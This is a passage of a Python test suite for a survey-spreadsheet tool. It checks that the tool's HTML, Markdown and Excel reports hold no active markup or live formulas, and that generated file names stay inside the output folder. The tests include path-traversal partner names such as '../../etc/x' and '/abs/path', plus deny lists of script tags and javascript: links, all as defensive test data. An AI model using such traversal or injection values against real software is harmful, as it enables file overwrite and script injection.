    assert "data errors" in strict.stderr
    batch.assert_untouched()
    return out


@pytest.fixture(scope="module")
def report_json(reports: dict[str, Path]) -> dict[str, Any]:
    data: dict[str, Any] = json.loads(reports["json"].read_text("utf-8"))
    return data


def _partner_answers(report: dict[str, Any], partner: str) -> dict[str, Any]:
    (row,) = [p for p in report["partners"] if p["partner"] == partner]
    answers: dict[str, Any] = row["answers"]
    return answers


def _source_answers(report: dict[str, Any], file: str) -> dict[str, str]:
    """What the per-partner appendix shows for one file: question id -> answer shown."""
    (source,) = [s for p in report["partners"] for s in p["sources"] if s["file"] == file]
    return {a["question"]: a["shown"] for a in source["answers"]}


@pytest.mark.parametrize(ISSUE_FIELDS, ISSUES, ids=ISSUE_IDS)
def test_report_json_shows_the_issue(
    batch: Batch,
    report_json: dict[str, Any],
    file: str,
    code: str,
    severity: str,
    sheet: str | None,
    cell: Cell,
) -> None:
    where = (sheet, batch.where(file, cell)[1] if cell is not None else None)
    assert [
        (i["severity"], i["sheet"], i["cell"])
        for i in report_json["issues"]
        if i["file"] == file and i["code"] == code
    ] == [(severity, *where)]


def test_report_json_lists_every_input(batch: Batch, report_json: dict[str, Any]) -> None:
    inputs = {i["file"]: i for i in report_json["inputs"]}
    assert sorted(inputs) == batch.files
    for name, entry in inputs.items():
        assert entry["sha256"] == batch.hashes[name]
        if name in UNREADABLE:
            assert entry["status"] == "unreadable"


def test_report_json_has_hostile_text_verbatim(report_json: dict[str, Any]) -> None:
    for name, partner in GOOD.items():
        answers = _partner_answers(report_json, partner)
        cells = _source_answers(report_json, name)
        for qid, text in GOOD_TEXT[name].items():
            assert answers[qid] == text, qid
            assert cells[qid].startswith(text), qid
        for qid, note in NOTES[name].items():
            assert f"[Note: {note}]" in cells[qid]


def test_report_json_keeps_long_and_control_answers_whole(report_json: dict[str, Any]) -> None:
    assert _partner_answers(report_json, "Thessaloniki")["barriers"] == LONG
    assert _partner_answers(report_json, "Nantes")["barriers"] == CONTROL
    assert _source_answers(report_json, "10-long-answer.xlsx")["barriers"] == LONG


def test_report_counts_only_the_readable_returns(report_json: dict[str, Any]) -> None:
    partners = {p["partner"] for p in report_json["partners"]}
    expected = {p for f, p in PARTNERS.items() if SOFFICE is not None or f not in NEEDS_SOFFICE}
    assert partners == expected
    files = [s["file"] for p in report_json["partners"] for s in p["sources"]]
    assert "resent/venice.xlsx" not in files and "7-lublin.xlsx" not in files
    assert "7-lublin-final.xlsx" in files  # the newest of the two is used
    assert not set(files) & set(UNREADABLE)


def test_report_uses_what_could_be_read(report_json: dict[str, Any]) -> None:
    def answers(partner: str) -> dict[str, Any]:
        return _partner_answers(report_json, partner)

    minimum = answers("Malmo")  # the Responses sheet renamed
    assert (minimum["ulsg_functioning"], minimum["lap_stage"]) == ("no", "in_preparation")
    for partner in ("Vantaa", "Aarhus", "Lille"):  # hidden, header moved down, macros
        assert answers(partner) == minimum, partner
    # a formula with no saved value is no answer at all, never 0
    assert "lap_actions_implemented" not in answers("Rotterdam")
    assert "lap_actions_implemented" not in _source_answers(report_json, "5-formula-no-value.xlsx")
    assert answers("Turin")["funding_secured"] == 350000  # the value saved with the link
    assert answers("Bremen")["ma_relation"] == "Good relations; separate meetings too."
    assert answers("Leipzig")["lap_stage"] == "in_preparation"  # the first of the two rows
    assert answers("Lublin")["lap_stage"] == "discontinued"  # the newer of the two files


def test_reports_never_show_an_external_entity(reports: dict[str, Path]) -> None:
    for fmt, path in reports.items():
        if fmt == "xlsx":
            with zipfile.ZipFile(path) as z:
                text = b"".join(z.read(n) for n in z.namelist()).decode("utf-8", "replace")
        else:
            text = path.read_text("utf-8")
        assert SECRET not in text, fmt


# --- HTML


class Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.data: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.data.append(data)


def test_report_html_has_no_active_content(reports: dict[str, Path]) -> None:
    text = reports["html"].read_text("utf-8")
    page = Page()
    page.feed(text)
    page.close()
    names = {tag for tag, _ in page.tags}
    assert not names & {"script", "img", "iframe", "object", "embed", "link", "form"}
    for tag, attrs in page.tags:
        assert not [a for a in attrs if a.lower().startswith("on")], (tag, attrs)
        for key in ("href", "src", "xlink:href", "action", "formaction"):
            value = (attrs.get(key) or "").strip().lower()
            assert not value.startswith(("javascript:", "data:", "http")), (tag, attrs)
    shown = "".join(page.data)
    for hostile in (SCRIPT, IMG, JS_LINK, HYPERLINK, "Region | Province || City", "=1+2"):
        assert hostile in shown, hostile
    assert "\x07" not in text and "\x1b" not in text


def test_report_html_shows_every_issue_under_its_file(reports: dict[str, Path]) -> None:
    text = reports["html"].read_text("utf-8")
    quality = text.split('<section id="appendix-quality"', 1)[1].split("</section>", 1)[0]
    by_file = {
        html.unescape(chunk.split("</h3>", 1)[0]): chunk for chunk in quality.split("<h3>")[1:]
    }
    for file, code, *_ in ISSUES:
        assert f"[{code}]" in by_file[file], (file, code)


# --- Markdown


def test_report_md_tables_keep_their_structure(reports: dict[str, Path]) -> None:
    text = reports["md"].read_text("utf-8")
    tables = md_tables(text)
    assert tables
    for table in tables:
        assert len(table[0]) < 400  # no 20-column wall
        want = unescaped_pipes(table[0])
        for line in table:
            assert unescaped_pipes(line) == want, line[:300]
    assert "<script" not in text and "<img" not in text and "<svg" not in text
    assert set(re.findall(r"<[^>]*>", text)) <= {"<br>"}  # the only raw HTML
    assert not re.search(r"(?<!\\)\]\(javascript:", text)
    assert md_escape(SCRIPT) in text and md_escape(JS_LINK) in text
    assert "\x07" not in text


def test_report_md_shows_every_issue_under_its_file(reports: dict[str, Path]) -> None:
    text = reports["md"].read_text("utf-8")
    quality = text.split("## Appendix: data quality", 1)[1].split("## Appendix: provenance")[0]
    by_file = {chunk.split("\n", 1)[0]: chunk for chunk in quality.split("\n### ")[1:]}
    for file, code, *_ in ISSUES:
        assert f"\\[{md_escape(code)}\\]" in by_file[md_escape(file)], (file, code)


# --- xlsx


def test_report_xlsx_has_no_formula_anywhere(reports: dict[str, Path]) -> None:
    with zipfile.ZipFile(reports["xlsx"]) as z:
        for name in z.namelist():
            if name.endswith(".xml"):
                xml = z.read(name).decode("utf-8")
                assert not re.search(r"<(\w+:)?f[\s>/]", xml), name


def test_report_xlsx_writes_hostile_text_as_text(reports: dict[str, Path]) -> None:
    wb = openpyxl.load_workbook(reports["xlsx"])
    cells = {c.value: c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value}
    expected = list(FORMULA_LIKE.values()) + list(MARKUP.values())[:3]
    for text in expected:
        assert text in cells, text
        assert cells[text].data_type == "s", text
    for value, cell in cells.items():
        if isinstance(value, str) and value[:1] in "=+-@":
            assert cell.data_type == "s", (cell.parent.title, cell.coordinate, value)


def test_report_xlsx_cuts_the_long_answer_with_a_marker(reports: dict[str, Path]) -> None:
    ws = openpyxl.load_workbook(reports["xlsx"])["Answers"]
    assert [c.value for c in ws[1]] == ["Partner", "Source", "File", "Question", "Answer"]
    barriers = load_questionnaire("mile-followup-2009").question("barriers").text["en"]
    rows = {row[2]: row[4] for row in ws.iter_rows(min_row=2, values_only=True)
            if row[3] == barriers}  # fmt: skip
    long = rows["10-long-answer.xlsx"]
    assert len(long) <= MAX_CELL_CHARS
    assert long.startswith(LONG[:1000])
    assert "[cut:" in long and "full text is in the JSON report and the store" in long
    assert rows["10-control-characters.xlsx"] == "Staff turnover and budgets"


def test_report_xlsx_lists_every_issue(batch: Batch, reports: dict[str, Path]) -> None:
    ws = openpyxl.load_workbook(reports["xlsx"])["Issues"]
    found = {(r[2], r[1], r[3], r[4]) for r in ws.iter_rows(min_row=2, values_only=True)}
    for file, code, _severity, sheet, cell in ISSUES:
        where = batch.where(file, cell)[1] if cell is not None else None
        assert (file, code, sheet, where) in found


# ------------------------------------------------------------------------- the stamp guess


def test_many_bad_files_before_the_good_ones_do_not_stop_the_batch(tmp_path: Path) -> None:
    folder = tmp_path / "returns"
    folder.mkdir()
    for i in range(25):
        (folder / f"0-broken-{i:02}.xlsx").write_bytes(b"PK\x03\x04 broken %d" % i)
    filled(folder, MILE_REQUIRED, name="venice.xlsx")
    run = urbsurvey("validate", folder, "--format", "json")
    assert_clean(run)
    assert run.returncode == 1, run.stderr
    data = json.loads(run.stdout)
    assert data["summary"] == {"files": 26, "ok": 1, "warnings": 0, "errors": 0, "unreadable": 25}


# ------------------------------------------------------------------------- files that vanish


@pytest.mark.parametrize("command", ["validate", "ingest"])
def test_a_file_that_cannot_be_opened_is_an_issue(tmp_path: Path, command: str) -> None:
    folder = tmp_path / "returns"
    filled(folder, MILE_REQUIRED, name="venice.xlsx")
    (folder / "lisbon.xlsx").symlink_to(tmp_path / "gone" / "lisbon.xlsx")
    extra = ["--store", str(tmp_path / "s.sqlite")] if command == "ingest" else []
    run = urbsurvey(command, folder, "--questionnaire", MILE, "--format", "json", *extra)
    assert_clean(run)
    assert run.returncode == 1
    issues = json.loads(run.stdout)["issues"]
    assert [(i["file"], i["code"]) for i in issues] == [("lisbon.xlsx", "corrupt-file")]


# ------------------------------------------------------------------------- 11. output names

HOSTILE_PARTNERS = [
    "../../etc/x",
    "con",
    "/abs/path",
    "..",
    "a/b\\c",
    ".....",
    "x" * 300,
    "Venice",
]


def _tree(root: Path) -> set[str]:
    return {p.relative_to(root).as_posix() for p in root.rglob("*")}


def test_template_partner_names_make_safe_files_inside_the_folder(tmp_path: Path) -> None:
    sandbox = tmp_path / "sandbox"
    out = sandbox / "a" / "b" / "out"
    out.mkdir(parents=True)
    partners = sandbox / "partners.csv"
    lines = ["partner,role"] + [f'"{p}",city' for p in HOSTILE_PARTNERS]
    partners.write_text("\n".join(lines) + "\n", encoding="utf-8")
    before = _tree(sandbox)
    assert not Path("/abs").exists()
    run = urbsurvey("template", MILE, "--partners", partners, "-o", out, cwd=out)
    assert_clean(run)
    assert run.returncode == 0, run.stderr
    written = sorted(out.iterdir())
    assert len(written) == len(HOSTILE_PARTNERS)
    assert _tree(sandbox) - before == {p.relative_to(sandbox).as_posix() for p in written}
    assert not Path("/abs").exists()
    for path in written:
        name = path.name
        assert path.parent == out and path.is_file() and not path.is_symlink()
        assert re.fullmatch(r"[\w][\w.-]*\.xlsx", name), name
        assert ".." not in name and len(name.encode()) <= 255, name
        assert name.split(".")[0].lower() not in _RESERVED_NAMES, name
    # each workbook still names its partner exactly as the CSV has it
    names = set()
    for path in written:
        ws = openpyxl.load_workbook(path)[R]
        names.add(ws.cell(row=row_of(ws, "respondent.partner"), column=3).value)
    assert names == set(HOSTILE_PARTNERS)


def test_template_device_name_with_a_dot_is_made_safe(tmp_path: Path) -> None:
    partners = tmp_path / "partners.csv"
    partners.write_text("partner,role\nNul.txt,city\nCOM1.report,city\n", encoding="utf-8")
    out = tmp_path / "out"
    run = urbsurvey("template", MILE, "--partners", partners, "-o", out)
    assert_clean(run)
    assert run.returncode == 0, run.stderr
    names = sorted(p.name for p in out.iterdir())
    assert len(names) == 2
    for name in names:
        assert name.split(".")[0].lower() not in _RESERVED_NAMES, name


def test_template_single_output_stays_where_it_is_told(tmp_path: Path) -> None:
    out = tmp_path / "venice.xlsx"
    run = urbsurvey("template", MILE, "--partner", "../../etc/x", "-o", out, cwd=tmp_path)
    assert_clean(run)
    assert run.returncode == 0
    assert _tree(tmp_path) == {"venice.xlsx"}


def test_every_corpus_code_is_in_the_catalogue() -> None:
    assert {code for _, code, *_ in ISSUES} <= set(CATALOGUE)
    for _, code, severity, *_ in ISSUES:
        assert CATALOGUE[IssueCode(code)].severity.value == severity
